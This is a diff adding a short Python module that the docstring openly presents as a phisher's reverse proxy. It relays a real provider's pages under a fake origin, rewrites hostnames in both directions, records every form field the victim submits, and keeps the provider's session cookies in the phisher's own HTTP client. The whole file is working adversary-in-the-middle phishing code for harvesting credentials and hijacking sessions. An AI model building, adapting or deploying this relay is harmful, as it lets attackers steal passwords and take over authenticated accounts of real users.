@@ -1,0 +1,29 @@
+"""The phisher's proxy between a victim and a provider: it shows the real pages under a name of its own, and keeps what passes."""
+from collections.abc import Callable
+
+import httpx
+from werkzeug.wrappers import Request, Response
+
+NOT_PASSED_ON = {"host", "cookie", "content-length", "connection", "accept-encoding", "transfer-encoding", "content-encoding", "set-cookie"}
+
+
+class Relay:
+    """A WSGI app under the origin `fake` that asks `real` for everything. It forges nothing, breaks no cipher and guesses no password.
+
+    `network` is the phisher's own browser: cookies that the provider sets stay in it, so in the end the session is there and nowhere
+    else. `typed` is what the victim sent in forms. `rewrite` may change a page before the victim sees it. One victim at a time.
+    """
+
+    def __init__(self, network: httpx.Client, real: str, fake: str, rewrite: Callable[[str], str] = str):
+        self.network, self.real, self.fake, self.rewrite = network, real, fake, rewrite
+        self.typed: dict[str, str] = {}
+
+    def __call__(self, environ, start_response):
+        request = Request(environ)
+        body = request.get_data()
+        self.typed |= request.form.to_dict()
+        asked = {name: value.replace(self.fake, self.real) for name, value in request.headers if name.lower() not in NOT_PASSED_ON}
+        answer = self.network.request(request.method, self.real + request.full_path, headers=asked, content=body)
+        passed = [(name, value.replace(self.real, self.fake)) for name, value in answer.headers.items() if name not in NOT_PASSED_ON]
+        page = self.rewrite(answer.text.replace(self.real, self.fake))
+        return Response(page, answer.status_code, passed)(environ, start_response)
